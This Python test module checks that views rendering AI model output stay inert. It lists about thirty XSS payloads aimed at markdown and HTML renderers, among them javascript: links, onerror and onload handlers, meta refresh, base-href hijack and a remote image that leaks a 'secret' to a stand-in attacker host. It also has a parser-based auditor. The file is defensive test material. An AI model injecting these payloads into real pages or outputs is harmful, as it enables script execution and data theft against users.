"""Hostile model text, and the checks that what a view made of it can neither run nor load anything.

Each input is one trick (a test id says which); every path that shows model text is fed all of them. The oracle
for HTML is a real parser (``html.parser``: entities in attributes decoded as a browser would); Markdown is first
rendered by markdown-it with raw HTML on and *every* link accepted, as permissive as a trusted JupyterLab output.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import unquote

__all__ = ["HOSTILE", "assert_inert", "render_markdown", "visible_text"]

X = "alert(1)"
HOSTILE: dict[str, str] = {
    "quote-in-link-url": f'See [the docs](https://x.org/"onmouseover="{X}) now.',
    "javascript-link": f"[click me](javascript:{X})",
    "mixed-case-scheme": f"[click](JaVaScRiPt:{X})",
    "entity-scheme": f"[click](&#106;avascript:{X})",
    "tab-entity-scheme": f"[click](java&#x09;script:{X})",
    "backslash-escape": f"\\[click](javascript:{X})",
    "angle-link": f"[click](<javascript:{X}>)",
    "autolink": f"<javascript:{X}>",
    "reference-link": f"[click][r]\n\n[r]: javascript:{X}",
    "title-breakout": f'[ok](https://ok.org "t" onclick="{X}")',
    "data-url-link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "remote-image": "![pixel](https://evil.example/leak.png?k=secret)",
    "script": f"<script>{X}</script>",
    "img-onerror": f"<img src=x onerror={X}>",
    "iframe": f'<iframe src="javascript:{X}"></iframe>',
    "svg-onload": f"<svg onload={X}>",
    "svg-script": f"<svg><script>{X}</script></svg>",
    "math-href": f'<math><mi xlink:href="javascript:{X}">x</mi></math>',
    "details-ontoggle": f"<details open ontoggle={X}><summary>s</summary></details>",
    "form-autofocus": f"<form action=https://evil.example><input autofocus onfocus={X}></form>",
    "object": f'<object data="javascript:{X}"></object>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{X}">',
    "base-href": '<base href="https://evil.example/">',
    "style-overlay": '<div style="position:fixed;top:0;left:0;background:url(https://evil.example/x)">covered</div>',
    "comment-trick": f"<!--><img src=x onerror={X}>-->",
    "quote-breakout": f'**"><img src=x onerror={X}>**',
    "code-span-breakout": f"`</code><img src=x onerror={X}>`",
    "nested-fences": f"````\n```\n</pre><img src=x onerror={X}>\n```\n````\n<img src=y onerror={X}>",
    "fence-in-list": f"- item\n  ```\n<img src=x onerror={X}>\n```",
    "unclosed-fence": f"Intro\n```html\n<img src=x onerror={X}>",
    "double-escaped": f"&lt;img src=x onerror={X}&gt;",
    "control-char-scheme": f"[click](\x01javascript:{X})",
    "mathjax-href": f"$\\href{{javascript:{X}}}{{x}}$",
    "html-in-thinking": f"<think><img src=x onerror={X}></think>\nDone: <b onclick={X}>4</b>",
}

_FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "svg", "math", "object", "embed", "style", "form", "input", "button", "base",
    "meta", "link", "template", "textarea", "select",
}  # fmt: skip
_CONTROL = re.compile(r"[\x00-\x20]")


def _url(value: str) -> str:
    """Return a URL as a browser reads its scheme: controls and whitespace gone, lower case, unquoted."""
    return _CONTROL.sub("", unquote(value)).lower()


class _Auditor(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            url = _url(value or "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            elif name == "href" and not url.startswith(("http://", "https://", "mailto:")):
                self.problems.append(f"<{tag} href={value!r}>")
            elif name in {"src", "data", "action", "formaction", "xlink:href", "background", "poster"}:
                if not (tag == "img" and name == "src" and url.startswith("data:image/")):
                    self.problems.append(f"<{tag} {name}={value!r}>")
            elif name == "style" and any(k in url for k in ("url(", "position", "expression", "@import")):
                self.problems.append(f"<{tag} style={value!r}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append("<!-- comment -->")  # comments are where parser differentials hide


def assert_inert(html: str, where: str = "") -> None:
    """Fail unless ``html`` has no script, frame, embedded document, event handler, active URL or overlay."""
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    assert not auditor.problems, f"{where}: {auditor.problems} in {html[:600]!r}"


def render_markdown(markdown: str) -> str:
    """Return ``markdown`` rendered with raw HTML passed through and every link accepted (no safety net)."""
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
    return str(renderer.render(markdown))


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def visible_text(html: str) -> str:
    """Return the text a reader sees in ``html`` (entities decoded, tags gone)."""
    parser = _Text()
    parser.feed(html)
    parser.close()
    return "".join(parser.parts)
